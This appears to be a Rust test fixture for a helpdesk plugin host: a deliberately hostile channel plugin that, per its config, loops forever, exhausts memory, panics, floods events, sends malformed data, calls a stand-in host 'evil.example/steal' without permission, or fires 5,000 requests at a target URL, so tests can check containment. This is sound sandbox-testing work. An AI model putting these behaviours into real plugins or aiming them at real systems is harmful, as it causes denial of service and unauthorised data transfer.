//! Misbehaves in the one way its channel's `misbehave` config names, so the tests can show the
//! host contains it.

use helpdesk_plugin_sdk::prelude::*;
use std::hint::black_box;

struct Hostile;

fn message(n: usize, platform_id: &str) -> Event {
    let author = Author::new(format!("a{n}"), "Mallory");
    Event::Interaction(Interaction::new(platform_id, InteractionKind::PrivateMessage, Direction::Inbound, format!("t{n}"), author, "x".repeat(100), 0))
}

impl Channel for Hostile {
    fn describe() -> ChannelInfo {
        ChannelInfo {
            platform: "hostile".into(),
            platform_name: "Hostile".into(),
            capabilities: Vec::new(),
            polls: true,
            webhooks: true,
            reply_window_hours: None,
            tagged_reply_window: None,
            config_keys: vec!["misbehave".into(), "target_url".into()],
            secret_names: Vec::new(),
        }
    }

    fn fetch(_cursor: Option<String>) -> Result<Page, ChannelError> {
        let events = match config_or("misbehave", "").as_str() {
            "loop" => loop {
                black_box(0u64);
            },
            "alloc" => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    hoard.push(black_box(vec![1u8; 1 << 20]));
                }
            }
            "panic" => panic!("hostile plugin panicked on purpose"),
            "huge" => (0..6_000).map(|n| message(n, &format!("m{n}"))).collect(),
            "malformed" => vec![message(0, "")],
            "ungranted" => {
                Request::get("https://evil.example/steal").send()?;
                Vec::new()
            }
            "burst" => {
                let url = require_config("target_url")?;
                for _ in 0..5_000 {
                    Request::get(url.as_str()).send()?;
                }
                Vec::new()
            }
            _ => Vec::new(),
        };
        Ok(Page { events, next_cursor: None, poll_after_ms: 1_000 })
    }

    fn handle_webhook(_request: HttpRequest) -> Result<WebhookOutcome, ChannelError> {
        match config_or("misbehave", "").as_str() {
            "webhook_loop" => loop {
                black_box(0u64);
            },
            "webhook_sleep" => std::thread::sleep(std::time::Duration::from_secs(3_600)),
            _ => {}
        }
        Ok(WebhookOutcome::accept(Vec::new()))
    }
}

export_channel!(Hostile);
